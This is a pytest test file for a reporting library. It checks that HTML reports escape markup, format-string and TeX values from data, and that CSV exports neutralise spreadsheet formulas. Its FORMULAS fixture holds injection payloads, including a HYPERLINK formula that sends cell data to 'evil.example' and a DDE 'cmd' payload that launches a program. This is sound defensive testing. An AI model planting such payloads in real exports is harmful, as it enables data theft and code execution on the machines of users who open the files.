"""Strings from data are text in every report: never markup, format strings, TeX or path parts.

One world whose attribute values, campaign, arm, dataset name and currency are payloads for each
channel a string reaches (HTML, str.format, matplotlib mathtext, %-formatting, file names) is run
through every notebook; each must succeed and show the values as written.
"""

from __future__ import annotations

import html
import json
import subprocess
import sys

import pytest

from tests.conftest import write_dataset
from userops_lib import analyses

pytestmark = pytest.mark.slow  # report runs of every notebook on hostile values

PAYLOADS = {
    "organic": "{unknown}",  # str.format in lifelines' at-risk table
    "social": "$5 off $6",  # matplotlib mathtext, JupyterLab TeX
    "paid_search": "<b>50% {0} %s</b>",  # markup, format fields, %-formatting
    "referral": "微信 $\\frac{$ ../x",  # CJK, TeX that does not parse, a path part
}


def test_every_notebook_publishes_payload_values_as_text(tmp_path):
    from userops_lib.synth import make_world

    world = make_world(users=400, seed=5)
    users = world["users"].assign(channel=world["users"].channel.replace(PAYLOADS))
    assignments = world["assignments"].assign(
        campaign="{campaign} $x$", arm=world["assignments"].arm.replace({"discount": "$10 {off}"})
    )
    folder = write_dataset(
        tmp_path / "payloads",
        {"users.parquet": users, "events.parquet": world["events"], "assignments.parquet": assignments},
        {
            "name": "shop {x} $y$",
            "currency": "$",
            "tables": {
                "users": {"path": "users.parquet"},
                "events": {"path": "events.parquet"},
                "assignments": {"path": "assignments.parquet", "control_arm": "control"},
            },
        },
    )
    out = tmp_path / "reports"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "userops_lib.cli",
            "report",
            str(folder),
            "--out",
            str(out),
            "--jobs",
            "2",
            "-p",
            "segment_by=channel",
            "-p",
            "breakdown=channel",
        ],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    run = (out / "latest").resolve()
    manifest = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    assert {r["name"] for r in manifest["reports"]} == set(analyses.names())
    assert all(r["status"] == "ok" for r in manifest["reports"])
    pages = {p.stem: p.read_text(encoding="utf-8") for p in run.glob("*.html")}
    assert "<b>50%" not in "".join(pages.values())  # never live markup
    assert html.escape("<b>50% {0} %s</b>", quote=False) in pages["overview"]
    assert "{unknown}" in pages["overview"] and "$5 off $6" in pages["overview"]
    assert "{campaign} $x$" in pages["campaign_uplift"] and "$10 {off}" in pages["campaign_uplift"]
    assert "{unknown}" in pages["churn_survival"]  # the Kaplan-Meier segments by channel
    assert "{unknown}" in pages["funnel"]  # the funnel's groups by channel
    assert sorted(p.name for p in run.iterdir() if p.is_file() and p.suffix == ".html") == sorted(
        f"{name}.html" for name in [*pages]
    )  # no file named after a value


FORMULAS = {
    "ids": "=1+1",  # a user id
    "event": '=HYPERLINK("http://evil.example/?"&A1,"x")',  # an event name
    "channel": "+cmd|' /C calc'!A0",  # an attribute value (DDE)
    "campaign": "@SUM(1+1)",  # a campaign name
    "arm": "-2+3",  # an arm name that is not a number
}


def _cells(path):
    import csv

    with path.open(encoding="utf-8", newline="") as handle:
        yield from (cell for row in csv.reader(handle) for cell in row)


def test_no_published_csv_holds_a_live_formula(tmp_path):
    """Ids, event names, attribute values, campaign and arm names that a spreadsheet would evaluate reach
    every CSV of a run neutralised ('=...); the values stay exact in a Parquet copy."""
    import pandas as pd

    from userops_lib.files import neutralise
    from userops_lib.synth import make_world

    world = make_world(users=400, seed=5)
    ids = {u: f"{FORMULAS['ids']}{u}" if u % 3 == 0 else f"u{u}" for u in world["users"].user_id}
    users = world["users"].assign(
        user_id=lambda f: f.user_id.map(ids), channel=world["users"].channel.replace({"organic": FORMULAS["channel"]})
    )
    events = world["events"].assign(
        user_id=lambda f: f.user_id.map(ids), event=world["events"].event.replace({"session": FORMULAS["event"]})
    )
    assignments = world["assignments"].assign(
        user_id=lambda f: f.user_id.map(ids),
        campaign=FORMULAS["campaign"],
        arm=world["assignments"].arm.replace({"discount": FORMULAS["arm"]}),
    )
    folder = write_dataset(
        tmp_path / "formulas",
        {"users.parquet": users, "events.parquet": events, "assignments.parquet": assignments},
        {
            "tables": {
                "users": {"path": "users.parquet"},
                "events": {"path": "events.parquet"},
                "assignments": {"path": "assignments.parquet", "control_arm": "control"},
            }
        },
    )
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    # One run: the CSVs hold data only, identical in every language (tests/test_plots.py compares every table of
    # every analysis in English and Chinese), so a Chinese run would write these same files again.
    for language in ("en",):
        out = tmp_path / f"reports-{language}"
        command = [sys.executable, "-m", "userops_lib.cli", "report", str(folder), "--out", str(out), "--jobs", "2"]
        result = subprocess.run(
            [*command, "--lang", language, "-p", "segment_by=channel", "-p", "breakdown=channel"],
            capture_output=True,
            text=True,
        )
        assert result.returncode == 0, result.stderr[-3000:]
        run = (out / "latest").resolve()
        files = sorted(run.rglob("*.csv"))
        assert len(files) > 20
        cells = [cell for path in files for cell in _cells(path)]
        live = [c for c in cells if c.startswith(dangerous) and neutralise(c) != c]
        assert not live, live[:5]
        # The payloads did reach the files, neutralised: ids, event names, attribute values, campaign and arm.
        for payload in FORMULAS.values():
            assert any(c.startswith("'" + payload) for c in cells), payload
        # The values as they are, beside the CSVs that changed.
        customers = pd.read_parquet(run / "customer_value" / "customers.parquet")
        assert customers.user_id.str.startswith("=1+1").any()
